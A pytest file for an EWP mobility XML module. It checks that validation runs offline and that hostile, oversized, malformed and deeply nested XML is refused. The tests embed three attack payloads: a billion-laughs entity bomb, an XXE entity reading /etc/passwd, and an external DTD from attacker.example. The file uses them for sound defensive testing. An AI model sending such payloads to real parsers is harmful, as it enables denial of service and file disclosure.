"""EWP XML from outside: validated offline, and refused when hostile or oversized."""

import socket
import urllib.request

import pytest

from campus.mobility.ewp import xml as ewp_xml
from campus.mobility.ewp.xml import EwpXmlRefused, parse, render, validate
from tests.mobility.ewp.samples import agreement

EXAMPLE = (ewp_xml.SCHEMA_DIR / "omobility-las-get-response-example.xml").read_bytes()


@pytest.fixture
def fresh_schema():
    """The schema built inside the test, not the one an earlier test left in the cache."""
    ewp_xml.schema.cache_clear()
    yield
    ewp_xml.schema.cache_clear()


@pytest.fixture
def no_network(monkeypatch):
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("the network is off in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    return attempts


def test_the_schema_is_built_and_used_with_the_network_off(fresh_schema, no_network):
    # The example's xsi:schemaLocation and every xs:import in the schemas name GitHub URLs.
    validate(EXAMPLE)
    validate(render([agreement()]))

    assert parse(EXAMPLE)[0].omobility_id == "c442c289-5541-4cae-9edb-8ad83e133613"
    assert no_network == []


def test_the_schema_is_built_once_per_process(fresh_schema):
    assert ewp_xml.schema() is ewp_xml.schema()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE omobility-las-get-response [
  <!ENTITY a "laugh">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<omobility-las-get-response>&d;</omobility-las-get-response>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE omobility-las-get-response [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<omobility-las-get-response>&secret;</omobility-las-get-response>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE omobility-las-get-response SYSTEM "https://attacker.example/evil.dtd">
<omobility-las-get-response/>"""


@pytest.mark.parametrize(
    "hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["expansion", "entity", "dtd"]
)
@pytest.mark.parametrize("reader", [validate, parse])
def test_hostile_xml_is_refused_before_anything_is_expanded_or_fetched(reader, hostile, no_network):
    with pytest.raises(EwpXmlRefused, match="declares a DTD or entities"):
        reader(hostile)

    assert no_network == []


def test_a_document_over_the_size_limit_is_refused(monkeypatch):
    monkeypatch.setattr(ewp_xml, "MAX_BYTES", len(EXAMPLE) - 1)

    with pytest.raises(EwpXmlRefused, match=f"larger than {len(EXAMPLE) - 1} bytes"):
        parse(EXAMPLE)


@pytest.mark.parametrize(
    "broken",
    [b"", b"<omobility-las-get-response>", EXAMPLE[:-10], b"\xff\xfe not xml"],
    ids=["empty", "unclosed", "truncated", "binary"],
)
def test_xml_that_is_not_well_formed_is_refused(broken):
    with pytest.raises(EwpXmlRefused, match="not well-formed XML"):
        validate(broken)


def test_a_deeply_nested_document_is_rejected_without_walking_it():
    deep = EXAMPLE.replace(
        b"<isced-clarification>", b"<a>" * 20_000 + b"</a>" * 20_000 + b"<isced-clarification>"
    )

    with pytest.raises(ewp_xml.EwpXmlInvalid, match="/la/a: Unexpected child with tag 'a'"):
        parse(deep)
